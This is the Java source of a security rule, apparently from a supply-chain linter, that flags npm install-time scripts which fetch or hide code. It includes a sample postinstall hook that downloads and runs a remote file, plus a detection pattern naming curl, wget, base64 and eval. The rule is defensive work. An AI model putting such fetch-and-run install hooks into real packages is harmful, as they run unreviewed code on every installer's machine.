package dev.emerald.rules.supply;

import dev.emerald.spi.finding.Severity;
import dev.emerald.spi.manifest.NamedText;
import dev.emerald.spi.manifest.PackageJson;
import dev.emerald.spi.roadmap.RoadmapItem;
import dev.emerald.spi.rule.Example;
import dev.emerald.spi.rule.Hooks;
import dev.emerald.spi.rule.Rule;
import dev.emerald.spi.rule.RuleInfo;
import java.util.Set;
import java.util.regex.Pattern;

/** Code that runs when somebody installs the package. */
@RuleInfo(
    id = "supply-install-script",
    title = "An install script fetches or hides code",
    severity = Severity.HIGH,
    cwe = {506, 829},
    owasp = {"A08:2021"},
    roadmap = RoadmapItem.CI_5,
    why =
        "Install scripts run on every machine that installs the package, before anybody has looked"
            + " at it. What they fetch is in no lock file and no review.",
    remedy =
        "Publish what is needed within the package, or fetch it on first use and check its hash.",
    bad =
        @Example(
            file = "package.json",
            value =
                """
                {
                  "name": "a",
                  "scripts": { "postinstall": "wget https://files.example/agent && node agent" }
                }
                """),
    good =
        @Example(
            file = "package.json",
            value =
                """
                {
                  "name": "a",
                  "scripts": {
                    "postinstall": "node-gyp rebuild",
                    "prepare": "husky install",
                    "fetch": "wget https://data.example/data.json"
                  }
                }
                """))
public final class InstallScript implements Rule {

  private static final Set<String> ON_INSTALL = Set.of("preinstall", "install", "postinstall");

  private static final Pattern FETCHES_OR_HIDES =
      Pattern.compile(
          "(?:^|[\\s;&|(`\"'])(?:(?:curl|wget|base64|Invoke-WebRequest|iwr|eval)(?:$|[\\s;])"
              + "|node +(?:-e|--eval|-p)\\s)");

  /** Code on the command line that only loads a file of the package. */
  private static final Pattern LOADS_OWN_FILE =
      Pattern.compile(
          "node +(?:-e|--eval|-p) +[\"']?(?:try *\\{"
              + " *)?require\\(['\"\\\\]*\\.[\\w./-]*['\"\\\\]*\\)(?:\\(\\))?;? *(?:\\} *catch"
              + " *(?:\\(\\w+\\) *)?\\{ *\\})?[\"']?");

  @Override
  public void register(Hooks on) {
    on.manifest(
        PackageJson.class,
        (manifest, context) -> {
          for (NamedText script : manifest.scripts()) {
            if (ON_INSTALL.contains(script.name())
                && FETCHES_OR_HIDES.matcher(script.text()).find()
                && !LOADS_OWN_FILE.matcher(script.text().strip()).matches()) {
              context.report(
                  script.textLocation(),
                  "'" + script.name() + "' runs code that the package does not hold");
            }
          }
        });
  }
}
